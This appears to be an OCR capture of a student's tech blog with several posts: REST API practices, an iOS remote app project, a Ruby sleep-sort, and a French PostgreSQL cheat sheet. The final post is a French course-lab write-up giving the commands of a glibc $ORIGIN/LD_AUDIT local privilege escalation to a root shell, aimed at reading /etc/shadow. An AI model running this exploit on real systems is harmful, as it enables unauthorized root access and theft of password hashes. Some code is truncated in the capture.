Pierre-Olivier Bourgeois Writings and code from an IT engineering student.

Some REST best practices

REST APIs are a very common topic nowaday; they are part of almost every web application. A simple, consistent and pragmatic interface is a mandatory thing; it will be much easier for others to use your API. Even if these practices may look common to your eye, I often see people that don't really respect them. That's why I decided to write a post about it.

Here are some best practices to keep in mind while designing a RESTful API.

Disclamer: these best practices are what I think is good, based from my past expriences. If you think otherwise, feel free to send me an email so we can have a discussion about it.

Version your API

API versions should be mandatory. This way, you will be futureproof as the API changes through time. One way is to do is to pass the API version in the URL (/api/v1/...).

One other neat trick is to use the Accept HTTP header to pass the verison desired. Github does that.

Using versions will allow you to change the API structure without breaking compatibility with older clients.

Use nouns, not verbs

One thing I often see is people using verbs instead of nouns in their resources name. Here are some bad examples :• /getProducts
  • /listOrders
  • /retreiveClientByOrder?orderId=1

For a clean and conscice structure, you should always use nouns. Moreover, a good use of HTTP methods will allow you to remove actions from your resources names. Here is a much cleaner example :

  • GET /products : will return the list of all products
  • POST /products : will add a product to the collection
  • GET /products/4 : will retreive product #4
  • PATCH/PUT /products/4 : will update product #4

Use the plural form

In my opinion, it is not a really good idea to mixsingular and plural forms in a single resource naming; it can quickly become confusing and non consistent.

Use /artists instead of /artist, even for the show/delete/update actions

GET and HEAD calls should always be safe

RFC2616 cleary states that HEAD and GET methods should always be safe to call (in other words, the state should not be altered).

Here is a bad example: GET /deleteProduct?id=1

Imagine a search engine indexing that page...

Use nested resources

If you want to get a sub collection (collection of an other one), use nested routing for a cleaner design. For instance, if you want to get a list of all albums of a particular artist, you would want to use :

  • GET /artists/8/albums


Returning a very large resultset over HTTP is not a very good idea neither. You will eventually run into performance issuesas serializing a large JSON may quickly become expensive.

An option to get around that would be to paginate your results. Facebook, Twitter, Github, etc. does that. It is much more efficient to make more calls that takes little time to complete, than a big one that is very slow to execute.

Also, if you are using pagination, one good way to indicate the next and previous pages links is through the Link HTTP header. Github does that too.

Use proper HTTP status codes

Always use proper HTTP status codes when returning content (for both successful and error requests). Here a quick list of non common codes that you may want to use in your application.

Success codes

  • 201 Created should be used when creating content (INSERT),
  • 202 Accepted should be used when a request is queued for background processing (async tasks),
  • 204 No Content should be used when the request was properly executed but no content was returned (a good example would be when you delete something).

Client error codes

  • 400 Bad Request should be used when there was an error while processing the request payload (malformed JSON, for instance).
  • 401 Unauthorized should be used when a request is not authenticiated (wrong access token, or username or password).
  • 403 Forbidden should be used when the request is successfully authenticiated (see 401), but the action was forbidden.
  • 406 Not Acceptable should be used when the requested format is not available (for instance, when requesting an XML resource from a JSON only server).
  • 410 Gone Should be returned when the requested resource is permenantely deleted and will never be available again.
  • 422 Unprocesable entity Could be used when there was a validation error while creating an object.

A more complete list of status codes can be found in RFC2616.

Always return a consistent error payload

When an exception is raised, you should always return aconsistent payload describing the error. This way, it will be easier for other to parse the error message(the structure will always be the same, whatever the error is).

Here one I often use in my web applications. It is clear, simple and self descriptive.

HTTP/1.1 401 Unauthorized
    "status": "Unauthorized",
    "message": "No access token provided.",
    "request_id": "594600f4-7eec-47ca-8012-02e7b89859ce"


I haven't really blogged lately.

I thought it would be cool to talk a little about a school project we delivered today. As said in the title, it's called ManETS (Manette) which means remote in french. (yeah, there is a lot of puns going on with my school name which is ÉTS).

Part of the class GTI785, the project was basically to develop a complete mobile remote application for Android. Even if the iOS version was only a bonus, I tought it would be educative to take some time to make it happen. Here is what I could come with after few hours of coding.

iOS Application

Here are some key features:

  • Basic playback functions: play, pause, forward and previous
  • Meta data (ID3) was provided by the server, over the network
  • Ability to refresh content on the fly; useful for adding new songs without the need to completely restart the application
  • Basic search using a simple implementation of UISearchBarDisplayController and with the help of NSPredicate
  • Gesture implementation for forward and previous actions (swipe left or right)
  • iOS 7 style blur across some views (behind the search UITableView, behind the UINavigationBar, etc).

You might wonder what the antenna icon is for: a streaming funtionnality was initially required but I did not manage to make it work under iOS (I might bewrong here, but I think a part of the reason is because iOS only supports HTTP Live Streaming (HLS)). Also, since the iOS version was only a bonus, I did not worry to much about this.

As my first presentable iOS application, I think it's pretty nice and clean. The only sad part, is probably the code - it's probably not as efficient as it could be (implementation of CoreData would be better, there is also probably some room to more design patterns, etc.).

In a future post, I might talk a little more about the backend implementation and what were the challenging features to implement.

Sleep sort algorithm

A while ago, one of my friends Simon told me about a funny sorting algorithmcalled sleep sort (originaly posted on 4chan).

The idea behind it is really simple: you sleep for the value of each number in the array and then you add that integer to the end of the array. Of course you can use some kind of constant (in my example I divided by 1000) to reduce the sleep time significantly.

He wrote an asynchronous javascript implementation of this algorithm - I could not resist to write a Ruby one. Here is my take.

def sleep_sort(*args)
  args.each { |e| fork { sleep(e.to_f/1000); puts e } }
sleep_sort(*ARGV) # Outputs to stdout

While this is great, I think it would be much more cleaner to extend Array directly, as following:

class Array
  def sleep_sort
    [].tap { |a| self.map { |e|
      Thread.new{ sleep e.to_f/1000; a << e} }.each{ |t|

puts ARGV.sleep_sortSleep sort is not really a linear sorting algorithm. It kind of depends on how many cores you have, or on how many threads you can run simultaneously.

I really like this kind of esoteric algorithm - this could lead to great discussions about algorithms, operating sytems and computer architecture.

PostgreSQL pour les nuls

Se connecter à une base de données:

$ psql postgres # base de données par défaut
$ psql nom_de_la_bdConnexion en tant qu'un utilisateur:

$ psql postgres nom_de_la_bd
$ psql -U rickastley nom_de_la_bd

Se connecter en utilisant TCP/IP (psql utilise par défaut un socket UNIX).

$ psql -h localhost -p 5432 nom_de_la_bd

Demander à psql de nous demander le mot de masse:

$ psql -W nom_de_la_bd

Un coup entré dans l'invite de commande de PostgreSQL, voici quelques commandes utiles.

postgres=# \h            # aide sur les commandes SQL
postgres=# \?            # aide sur les commandes psql
postgres=# \l            # lister les bases de données
postgres=# \c nom_bd     # se connecter à une base de données
postgres=# \d            # liste des tables
postgres=# \d nom_table  # schema d'une table donnée
postgres=# \du           # lister les roles
postgres=# \e            # édition dans $EDITOR

À ce stade, vous pouvez simplement entrer des requêtes SQL et elles seront éxécutés sur la base de données présentementsélectionnée.

En environnement de production, il est bien sûr nécessaire de créer des utilisateurs et de leurs donner les bons droits, voici quelques commandes que j'utilise fréquemment.

Création d'un nouvel utilisateur:

CREATE USER rickastley WITH PASSWORD 'unturbomotdepasse';

Création d'une nouvelle base de données:

CREATE DATABASE rickastley_bd;Et pour terminer, donner les droits sur la base de données rickastley_bd à l'utilisateur rickastley:

GRANT ALL PRIVILEGES ON DATABASE rickastley_bd to rickastley;

Aventures de GTI619

Lors de notre quatrième laboratoire de GTI619, une des dernières questionsétait de retrouver la liste des comptes utilisateurs valides pour un serveur linux (le fameux /etc/passwd), et en bonus, de retrouver le mot de passe hashé de ces utilisateurs (/etc/shadow).

Trouver la liste des comptes utilisateurs était plutôt simple, car nous avions déjà un accès en terminal à ce serveur (le fichier /etc/passwd est permis en lecture pour tous). Le vrai défi était d'avoir accès au fichier contenant les mots de passe au format hashé.

Il a donc fallu trouver une façon d'obtenir un accès root à ce serveur (privilege escalation). Voici comment nous avons procédé (sommairement).

Au premier coup d'oeil, le serveur semblait tourner CentOS 5.X.

Attention !

Les manipulations décrites dans cet article ne devraient jamais être exécutées dans desenvironnements réels. L'information est présentée à titre éducationnel. Tous les tests ont été exécutés dans des environnements virtuels et contrôlés, dans le cadre du cours GTI619.


Premièrement, on créer un répertoire dans un endroit où nous avons plein accès, /tmp par exemple,

mkdir /tmp/exploit

Ensuite, on lie un binaire suid ce qui change donc la définition de $ORIGIN,

ln /bin/ping /tmp/exploit/target

On ouvre un filedescriptor vers le fichier binaire,

exec 3< /tmp/exploit/target

Ce descripteur est désormais accessible via /proc,

ls -l/proc/$$/fd/3
lr-x--- 1 user user 64 Oct 28 14:21 /proc/10836/fd/3 -> /tmp/exploit/target*

On supprime le dossier précédemment créé,

rm -rf /tmp/exploit/

Le lien dans /proc devrait normalement toujours exister, mais il devrait être marqué comme (deleted),

ls -l /proc/$$/fd/3
lr-x--- 1 user user 64 Oct 28 14:21 /proc/10836/fd/3 -> /tmp/exploit/target (deleted)

On remplace le dossier par un payload DSO, ce qui rendra $ORIGIN comme cible validepour dlopen();,

$ cat > payload.c
void __attribute__((constructor)) init()

On compile,

gcc -w -fPIC -shared -o /tmp/exploit payload.c
ls -l /tmp/exploit-rwxrwx--- 1 user user 4.2K Oct 28 14:22 /tmp/exploit*

Il ne reste plus qu'à forcer le lien dans /proc pour charger $ORIGIN à travers LD_AUDIT,

$ LD_AUDIT="\$ORIGIN" exec/proc/self/fd/3
sh-4.1# whoami
sh-4.1# id